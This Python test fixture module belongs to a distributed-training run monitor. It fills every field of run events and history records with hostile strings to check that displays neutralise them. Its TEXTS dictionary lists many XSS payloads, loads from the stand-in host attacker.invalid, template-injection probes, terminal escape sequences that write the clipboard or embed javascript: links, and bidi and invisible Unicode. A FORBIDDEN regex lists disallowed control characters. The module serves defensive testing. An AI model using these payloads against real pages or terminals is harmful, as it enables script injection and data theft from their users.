"""Texts that attack whoever shows them, and runs that have them in every place."""

from __future__ import annotations

import re
import time
from typing import TYPE_CHECKING, Any

from ddp_magic.events import (
    Devices,
    Metrics,
    Notice,
    OutputChunk,
    Progress,
    RunEnded,
    RunStarted,
    RunState,
    Stalled,
    StateChanged,
    WorkerExited,
)
from ddp_magic.samples import GpuSample, WorkerSample

if TYPE_CHECKING:
    from collections.abc import Iterator

    from ddp_magic.events import Event

__all__ = ["FORBIDDEN", "HOST", "SHORT", "TEXTS", "begin", "end", "fields", "say", "steps"]

HOST = "attacker.invalid"
"""Nothing may ever ask for it."""
_RUN = "window.pwned=1"
TEXTS = {
    "a script": f"<script>{_RUN}</script>",
    "a script from elsewhere": f"<script src=http://{HOST}/a.js></script>",
    "a module": f"<script type=module>{_RUN}</script>",
    "handlers": f"<img src=x onerror={_RUN}><svg onload={_RUN}><body onload={_RUN}>",
    "a handler that waits": f"<details open ontoggle={_RUN}><marquee onstart={_RUN}>",
    "the end of an attribute": f"\"' autofocus tabindex=1 onfocus={_RUN} onmouseover={_RUN} x=\"",
    "the end of elements": (
        f"</script></style></title></textarea></pre></code></summary></div><script>{_RUN}</script>"
    ),
    "the end of a section": f"]]>--><script>{_RUN}</script><!--<![CDATA[",
    "a dialog": "<script>alert(1)</script><img src=x onerror=confirm(1)>",
    "a frame": f"<iframe srcdoc='<script>parent.pwned=1</script>' src=javascript:parent.{_RUN}>",
    "an object": f"<object data=http://{HOST}/o></object><embed src=http://{HOST}/e>",
    "a page that goes": f"<meta http-equiv=refresh content='0;url=//{HOST}/'><base href=//{HOST}/>",
    "styles": f"<link rel=stylesheet href=//{HOST}/s.css><style>*{{background:url(//{HOST}/u)}}",
    "an image": f"<img src=//{HOST}/i><video poster=//{HOST}/v><picture><source srcset=//{HOST}/p>",
    "a form": f"<form action=http://{HOST}/><button autofocus formaction=javascript:{_RUN}>",
    "addresses": f"javascript:{_RUN} data:text/html,<script>{_RUN}</script> vbscript:x",
    "Markdown": f"[x](javascript:{_RUN}) ![x](http://{HOST}/m.png) <javascript:{_RUN}> `x`",
    "mathematics": "$\\alpha$ $$\\href{javascript:pwned=1}{x}$$ \\(\\beta\\) \\[\\gamma\\]",
    "templates": "{{7*7}} ${window.pwned=1} #{1} <%= 1 %> {0.__class__} %(x)s %n",
    "JSON": '"}]}\\u003c/script>\\",{"t":"stop","kill":true}',
    "entities": f"&lt;b&gt; &#60;img src=x onerror={_RUN}&#62; &amp;lt;",
    "names of JavaScript": "__proto__ constructor toString",
    "colours and moves": "\x1b[31mred\x1b[0m\x1b[5;5Hx\x1b[?25l\x1b[38;5;999mx\x1b[1;;;;mx",
    "a terminal's link": f"\x1b]8;;javascript:{_RUN}\x1b\\link\x1b]8;;\x1b\\",
    "a title, a clipboard": "\x1b]0;title\x07\x1b]52;c;cHdu\x07\x1bP+q544e\x1b\\\x1b[6n",
    "C1 and others": "\x9b31mx\x90x\x9c\x85 \x00\x01\x07\x08\x7f\x0e\x0b\x0c",
    "text that runs the other way": "\u202eelif\u202c\u2066x\u2069\u200f\u061c\u200e",
    "separators": "a\u2028b\u2029c",
    "halves of pairs": "\ud800 \udfff\ufffe\uffff\ufdd0",
    "invisible": "\U000e0041\U000e007f\ufeff\u2060\ufff9",
    "many marks": "a" + "\u0301\u0489" * 200,
    "very long": f"<b onclick={_RUN}>" * 2000,
    "very long and one word": "x" * 100_000,
}  # fmt: skip
"""By what they are; U+0085 and others stand between parts that one would see."""
SHORT = (
    "<img src=x onerror=pwned=1>",
    "\"onfocus='pwned=1'autofocus/x=\"",
    "$\\href{javascript:}x$",
)
"""For places that show forty characters."""
FORBIDDEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2060-\u206f\ud800-\udfff\ufdd0-\ufdef"
    "\ufeff\ufff9-\ufffb\ufffe\uffff\U000e0000-\U000e0fff]"
)
"""What no view may show: all that is no text, but newline and tab."""


def begin(text: str, **changes: Any) -> RunStarted:
    """Return a run's first event, with a text in every place."""
    facts: dict[str, Any] = {
        "time": time.time(),
        "run_id": text,
        "label": text,
        "world_size": 2,
        "devices": (text, f"cuda:1 {text}"),
        "overrides": (text, f"lr={text} → Trainer(lr)"),
        "note": text,
        "log_dir": f"/tmp/{text}/logs",
        "shown": (0,),
    }
    return RunStarted(**(facts | changes))


def say(text: str, step: int = 1) -> Iterator[Event]:
    """Yield what may come in a run, with a text in every place."""
    now = time.time()
    yield Notice(time=now, text=text)
    yield Notice(time=now, text=text, warning=True)
    for rank, stream in ((0, "stdout"), (0, "stderr"), (1, "stdout"), (1, "stderr")):
        raw = f"{text}\n\r{text}".encode("utf-8", "surrogatepass")
        yield OutputChunk(time=now, rank=rank, stream=stream, data=raw)
        yield OutputChunk(time=now, rank=rank, stream=stream, data=b"\n")
    yield Metrics(time=now, rank=0, step=step, values=((text, 1.0), (f"val_{text}", 2.0)))
    yield Metrics(
        time=now, rank=0, step=step + 1, values=((text, float("nan")), (f"val_{text}", 3))
    )
    yield Progress(time=now, rank=0, label=text, done=1, total=3, left=70)
    gpu = GpuSample(label=text, used=1, total=2, busy=0.5, kernel=1)
    worker = WorkerSample(rank=0, cpu=1.0, memory=1)
    yield Devices(time=now, gpus=(gpu, gpu), workers=(worker, worker))
    yield Stalled(time=now, why=text)
    yield StateChanged(time=now, state=RunState.STOPPING, reason=text, until=now + 30)


def end(*texts: str) -> RunEnded:
    """Return the end of a run."""
    return RunEnded(
        time=time.time(),
        state=RunState.FAILED,
        duration=1.0,
        summary=texts[0],
        cause="\n".join(texts),
        outputs=texts,
        missing=texts,
    )


def steps(short: str) -> Iterator[Event]:
    """Yield a run that has every text, and a short one where there is place for one only."""
    yield begin(short, overrides=(short, *TEXTS.values()), devices=(short, TEXTS["a script"]))
    yield StateChanged(time=time.time(), state=RunState.RUNNING, reason=short)
    yield WorkerExited(time=time.time(), rank=1, attempt=0, exit_code=1)
    for text in (*TEXTS.values(), short):
        yield from say(text)


def fields(text: str) -> dict[str, Any]:
    """Return what a record of the history may have in it, in every place."""
    from tests.records import curve

    return {
        "name": text,
        "note": text,
        "notebook": f"/{text}/{text}.ipynb",
        "cell": text,
        "summary": text,
        "devices": (text, f"cuda:1 {text}"),
        "overrides": (text, f"{text}={text} → {text}"),
        "metrics": (curve(text, 3.0, 2.0, 1.0), curve(f"val_{text}", 1.0, 2.0)),
        "peaks": {text: text},
        "versions": {text: text},
        "module": f"# {text}\nx = '''{text}'''\n",
        "body": text,
    }
